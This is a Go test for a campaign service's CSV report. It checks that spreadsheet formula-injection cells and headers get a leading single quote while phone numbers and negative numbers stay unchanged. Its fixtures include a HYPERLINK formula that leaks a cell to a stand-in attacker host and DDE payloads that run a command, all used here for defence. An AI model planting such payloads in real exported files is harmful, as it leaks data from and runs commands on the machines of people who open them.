package web_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
)

// TestCampaignReportFormulaInjection uploads contacts whose cells and
// headers are spreadsheet formulas and checks the report neutralises them
// the OWASP way (a leading single quote), through the real router: E.164
// numbers in the phone column and negative numbers stay as they are.
func TestCampaignReportFormulaInjection(t *testing.T) {
	t.Parallel()
	ce := newCampEnv(t, campOpts{})
	s := ce.setup(false)
	hyperlink := `=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`
	tests := []struct {
		name, cell, want string
	}{
		{"hyperlink", hyperlink, "'" + hyperlink},
		{"dde", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"at", "@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"minus formula", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"equals alone", "=", "'="},
		{"negative integer", "-42", "-42"},
		{"negative decimal", "-12.50", "-12.50"},
		{"minus word", "-x", "'-x"},
		{"number then formula", "-1-1", "'-1-1"},
		{"e164 outside the phone column", "+14155550100", "'+14155550100"},
		{"formula later in the cell", "a=1+1", "a=1+1"},
		{"quote first", "'=1+1", "'=1+1"},
		{"plain", "Ada", "Ada"},
		{"empty", "", ""},
	}
	var in strings.Builder
	w := csv.NewWriter(&in)
	// Headers are formulas too; the reader trims a header's spaces, so a
	// tab before "=" is gone by the time the report writes it.
	header := []string{"phone_number", hyperlink, "@SUM(A1:A9)", "-x", "+1", "\t=tab", "first_name"}
	w.Write(header) //nolint:errcheck // strings.Builder
	for i, tt := range tests {
		w.Write([]string{campPhone(i + 1), tt.cell, "x", "y", "z", "w", "Ada"}) //nolint:errcheck
	}
	w.Flush()
	key := ce.upload(ce.keyA, in.String())
	cid := id(t, ce.createCampaign(ce.keyA, campBody("formulas", s.workflowID, key)), "id")

	status, _, body := ce.getRaw(ce.keyA, campaignOp(cid, "report"))
	if status != http.StatusOK {
		t.Fatalf("status = %d, want %d", status, http.StatusOK)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("report does not parse: %v\n%s", err, body)
	}
	if len(records) != len(tests)+1 {
		t.Fatalf("report rows = %d, want %d:\n%s", len(records), len(tests)+1, body)
	}
	wantHeader := []string{"phone_number", "'" + hyperlink, "'@SUM(A1:A9)", "'-x", "'+1", "'=tab",
		"first_name", "outcome", "attempts", "last_call_at", "duration_seconds", "answered_by", "suppression", "local_time",
		"abandoned", "answer_to_first_audio_ms"}
	if strings.Join(records[0], "|") != strings.Join(wantHeader, "|") {
		t.Errorf("header = %q, want %q", records[0], wantHeader)
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			row := records[i+1]
			if row[0] != campPhone(i+1) {
				t.Errorf("phone cell = %q, want %q (E.164 as it is)", row[0], campPhone(i+1))
			}
			if row[1] != tt.want {
				t.Errorf("cell %q = %q, want %q", tt.cell, row[1], tt.want)
			}
		})
	}
}
